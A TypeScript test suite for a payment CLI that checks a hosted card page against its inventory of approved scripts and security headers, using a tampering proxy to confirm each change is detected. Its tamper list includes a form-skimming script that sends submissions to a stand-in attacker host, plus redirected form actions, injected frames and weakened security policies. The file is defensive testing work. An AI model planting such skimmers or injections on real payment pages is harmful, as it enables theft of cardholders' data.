import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { comparePage } from '@pay/cli/card-page/compare-page';
import { readPage } from '@pay/cli/card-page/read-page';
import { newKeyValue } from '@pay/core/merchants/keys/api-key';
import { pageInventory } from '@pay/engine/card-page/inventory/page-inventory';
import { Agent, request } from 'undici';
import { afterAll, afterEach, beforeAll, describe, expect } from 'vitest';
import { certificateFor } from '../harness/certificate.ts';
import { runCommand, startCommand } from '../harness/command.ts';
import { eventually } from '../harness/eventually.ts';
import { newPayment } from '../harness/new-payment.ts';
import { testInLongRun, testInShortRun } from '../harness/runs.ts';
import { startTestEngine, type TestEngine } from '../harness/test-engine.ts';
import { type Answer, startTamperingProxy, type Tamper, type TamperingProxy } from './tampering-proxy.ts';

const YEAR = new Date().getUTCFullYear();
const CERTIFICATE = certificateFor('localhost', { from: YEAR - 1, until: YEAR + 2 });
const SKIMMER = '<script>document.forms[0].onsubmit = () => fetch("https://evil.example")</script>';

let folder: string;
let proxy: TamperingProxy;
let engine: TestEngine;
let env: Record<string, string>;
let page: string | undefined;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'pay-page-'));
  await writeFile(join(folder, 'ca.pem'), CERTIFICATE.cert);
  proxy = await startTamperingProxy(CERTIFICATE);
  engine = await startTestEngine({ baseUrls: { sandbox: proxy.url, live: 'https://live.pay.example' } });
  proxy.leadTo(engine.url);
  env = {
    PAY_SANDBOX_BASE_URL: proxy.url,
    PAY_LIVE_BASE_URL: 'https://live.pay.example',
    PAY_SECRET_KEY: engine.profile.secretKey.value,
    NODE_EXTRA_CA_CERTS: join(folder, 'ca.pem'),
  };
});
afterEach(() => proxy.tamperWith((answer) => answer));
afterAll(async () => {
  await engine.stop();
  await proxy.stop();
  await rm(folder, { recursive: true });
});

/** Checks a card page, the same one in every call, and returns the differences. */
async function differencesNow(): Promise<readonly string[]> {
  page ??= (await newPayment(engine)).url;
  const dispatcher = new Agent({ connect: { ca: CERTIFICATE.cert } });
  const found: string[] = [];
  for (const agent of ['Chrome', 'iPhone']) {
    const { statusCode, headers, body } = await request(page, { dispatcher, headers: { 'user-agent': agent } });
    const told = Object.entries(headers).flatMap(([name, value]) =>
      value === undefined ? [] : [[name, String(value)]],
    );
    const loaded = {
      status: statusCode,
      headers: new Headers(told as [string, string][]),
      content: readPage(await body.text()),
    };
    found.push(...comparePage(loaded, pageInventory()).map(({ what, found: seen }) => `${what}: ${seen}`));
  }
  await dispatcher.close();
  return found;
}

const check = (...args: readonly string[]) => runCommand(['card-page', 'check', ...args], env);

const inBody =
  (from: string | RegExp, to: string): Tamper =>
  (answer) => ({ ...answer, body: answer.body.replace(from, to) });
const inHeaders =
  (change: (headers: Answer['headers']) => Answer['headers']): Tamper =>
  (answer) => ({ ...answer, headers: { ...answer.headers, ...change(answer.headers) } });
const inPolicy = (from: string | RegExp, to: string) =>
  inHeaders(({ 'content-security-policy': policy }) => ({
    'content-security-policy': String(policy).replace(from, to),
  }));

describe('the card page as browsers receive it', () => {
  testInShortRun('matches the inventory of its installation, and leaves no open payment behind', async () => {
    const { code, stdout, stderr } = await check();
    expect([code, stderr]).toEqual([0, '']);
    expect(stdout).toMatch(new RegExp(`^\\S+Z ${proxy.url}/payment matches the inventory\\.\\n$`));
    const { rows } = await engine.database.pool.query('select distinct status from sessions');
    expect(rows).toEqual([{ status: 'cancelled' }]);
  });

  testInLongRun("still matches the inventory with a merchant's own colour and logo", async () => {
    const { profileId } = engine.profile.profile;
    await engine.database.pool.query("update profiles set accent = '#7a1fa2' where profile_id = $1", [profileId]);
    expect(await differencesNow()).toEqual([]);
    await engine.database.pool.query('update profiles set accent = null where profile_id = $1', [profileId]);
  });

  const TAMPERED: readonly (readonly [what: string, tamper: Tamper, difference: RegExp])[] = [
    ['a script is added', inBody('</body>', `${SKIMMER}</body>`), /a script that is not in the inventory/],
    ['a script is added to the head', inBody('<head>', `<head>${SKIMMER}`), /a script that is not in the inventory/],
    [
      'the script is changed by one byte',
      inBody('"use strict"', '"use strict" '),
      /a script that is not in the inventory/,
    ],
    ['the script is removed', inBody(/<script>.*<\/script>/s, ''), /the script card-page\.js is missing/],
    [
      'the script is included twice',
      inBody(/(<script>.*<\/script>)/s, '$1$1'),
      /a script that is not in the inventory/,
    ],
    ['a script is loaded', inBody('</body>', '<script src="/x.js"></script></body>'), /<script src>/],
    ['a handler is added', inBody('<form', '<form onsubmit="x()"'), /<form onsubmit>/],
    ['the form goes elsewhere', inBody(/action="[^"]*"/, 'action="https://evil.example/"'), /<form action>/],
    ['the form goes elsewhere without a scheme', inBody(/action="[^"]*"/, 'action="//evil.example/"'), /<form action>/],
    ['a frame is added', inBody('</body>', '<iframe srcdoc="x"></iframe></body>'), /<iframe>/],
    ['a base is added', inBody('<head>', '<head><base href="https://evil.example/">'), /<base>/],
    ['a style is loaded', inBody('<head>', '<head><link rel="stylesheet" href="https://evil.example/">'), /<link>/],
    [
      'a style is added',
      inBody('</head>', '<style>input{background:url(https://evil.example)}</style></head>'),
      /a style/,
    ],
    ['a picture is loaded', inBody('</body>', '<img src="https://evil.example/x.gif"></body>'), /<img src>/],
    ['a link runs something', inBody('</body>', '<a href="javascript:x()">x</a></body>'), /<a href>/],
    ['the policy is removed', inHeaders(() => ({ 'content-security-policy': undefined })), /script-src .* is missing/],
    [
      'the policy allows any script',
      inPolicy(/script-src [^;]*/, "script-src * 'unsafe-inline'"),
      /script-src .* differs/,
    ],
    [
      'the policy allows one more script',
      inPolicy("script-src '", `script-src 'sha256-${'A'.repeat(43)}=' '`),
      /script-src/,
    ],
    ['the policy allows other requests', inPolicy("connect-src 'self'", 'connect-src *'), /connect-src .* differs/],
    [
      'the policy allows another form target',
      inPolicy("form-action 'self'", 'form-action *'),
      /form-action .* differs/,
    ],
    ['a first directive replaces the real one', inPolicy(/^/, 'script-src *; '), /script-src .* differs/],
    ['the page can be framed', inHeaders(() => ({ 'x-frame-options': undefined })), /header x-frame-options differs/],
    [
      'transport security is removed',
      inHeaders(() => ({ 'strict-transport-security': undefined })),
      /strict-transport-security differs/,
    ],
    ['the page can be cached', inHeaders(() => ({ 'cache-control': 'public' })), /header cache-control differs/],
    ['a cookie is set', inHeaders(() => ({ 'set-cookie': 'x=y' })), /header set-cookie was added/],
    [
      'a script is preloaded',
      inHeaders(() => ({ link: '<https://evil.example/x.js>; rel=preload' })),
      /header link was added/,
    ],
    [
      'only phones get another page',
      (answer, agent) => (agent.includes('iPhone') ? inBody('</body>', `${SKIMMER}</body>`)(answer, agent) : answer),
      /a script that is not in the inventory/,
    ],
  ];

  testInShortRun('differs, with exit code 1 and a fingerprint, if a script is added', async () => {
    proxy.tamperWith(inBody('</body>', `${SKIMMER}</body>`));
    const { code, stdout, stderr } = await check();
    expect([code, stderr]).toEqual([1, 'pay: The card page differs from its inventory.\n']);
    expect(stdout).toMatch(/a script that is not in the inventory +sha256-[A-Za-z0-9+/]{43}=/);
    expect(stdout).not.toContain('evil');
  });

  testInLongRun('differs in every way in which someone could tamper with it', async () => {
    expect(await differencesNow()).toEqual([]);
    const missed: string[] = [];
    for (const [what, tamper, difference] of TAMPERED) {
      proxy.tamperWith(tamper);
      if (!(await differencesNow()).some((each) => difference.test(each))) missed.push(what);
    }
    expect(missed).toEqual([]);
  });

  testInLongRun('that cannot be loaded is told apart by the exit code', async () => {
    const gone = await check('https://localhost:1/payment');
    expect([gone.code, gone.stderr]).toEqual([3, expect.stringContaining('did not answer')]);
  });
});

describe('the inventory', () => {
  testInShortRun(
    'lists the reason, hash and sources of everything, and can be kept outside of the installation',
    async () => {
      const { code, stdout } = await runCommand(['card-page', 'inventory', '--json'], {});
      const kept = JSON.parse(stdout);
      expect([code, kept]).toEqual([0, pageInventory()]);
      for (const { reason, where, hash, sources } of kept.items) {
        expect([reason.length > 20, where.length > 5, sources.length > 0]).toEqual([true, true, true]);
        expect(hash).toMatch(/^sha256-[A-Za-z0-9+/]{43}=$/);
      }
      const file = join(folder, 'inventory.json');
      const items = kept.items.map((item: object) => ({ ...item, hash: 'sha256-x' }));
      await writeFile(file, JSON.stringify({ ...kept, items }));
      const other = await check('--inventory', file);
      expect([other.code, other.stdout]).toEqual([1, expect.stringContaining('the script card-page.js is missing')]);
    },
  );
});

// biome-ignore lint/suspicious/noExplicitAny: tests read answers of every shape
const changed = async (): Promise<any[]> =>
  (await engine.api.get('/v1/events')).body.data.filter(({ type }: { type: string }) => type === 'card_page.changed');
const recorded = async () => {
  const { rows } = await engine.database.pool.query(
    'select key_id, announced_at is not null as told from card_page_checks order by checked_at',
  );
  return rows;
};

testInShortRun(
  'a difference that a monitor records with its key becomes an event of the profile and an alarm, once',
  async () => {
    proxy.tamperWith(inBody('</body>', `${SKIMMER}</body>`));
    expect((await check('--record', '--json')).code).toBe(1);
    await eventually(async () => (await changed()).length).toBe(1);
    expect((await changed())[0].data).toEqual({
      check_id: expect.stringMatching(/^cpc_\w{22}$/),
      address: `${proxy.url}/payment`,
      differences: [
        { what: 'the page has a script that is not in the inventory', found: expect.stringMatching(/^sha256-/) },
      ],
    });
    await eventually(() => engine.readLog()).toContain('the card page differs from its inventory');
    proxy.tamperWith((answer) => answer);
    expect((await check('--record')).code).toBe(0);
    const { keyId } = engine.profile.secretKey.key;
    expect(await recorded()).toEqual([
      { key_id: keyId, told: true },
      { key_id: keyId, told: false },
    ]);
    expect(await changed()).toHaveLength(1);
  },
);

testInLongRun('a page of a given address is recorded for the profile of the key', async () => {
  const before = (await recorded()).length;
  const { code, stderr } = await check((await newPayment(engine)).url, '--record');
  expect([code, stderr]).toEqual([0, '']);
  expect(await recorded()).toHaveLength(before + 1);
});

testInLongRun('a watch continues after a difference, and ends if the key is refused', async () => {
  proxy.tamperWith(inBody('</body>', `${SKIMMER}</body>`));
  const watch = startCommand(['card-page', 'watch', '--every', '1', '--record'], env);
  const before = (await recorded()).length;
  await watch.line(/a script that is not in the inventory/);
  await eventually(async () => (await recorded()).length).toBe(before + 1);
  expect(watch.process.exitCode).toBeNull();
  watch.process.kill('SIGTERM');
  await watch.ended();
  const refused = await runCommand(['card-page', 'watch'], {
    ...env,
    PAY_SECRET_KEY: newKeyValue('secret', 'sandbox'),
  });
  expect([refused.code, refused.stderr]).toEqual([1, expect.stringContaining('api_key_invalid')]);
});

testInLongRun('a watch continues while the page does not load', async () => {
  const watch = startCommand(['card-page', 'watch', 'https://localhost:1/payment', '--every', '1'], env);
  let stderr = '';
  watch.process.stderr?.on('data', (text: string) => (stderr += text));
  await eventually(async () => stderr).toContain('did not answer');
  expect(watch.process.exitCode).toBeNull();
  watch.process.kill('SIGTERM');
  await watch.ended();
});
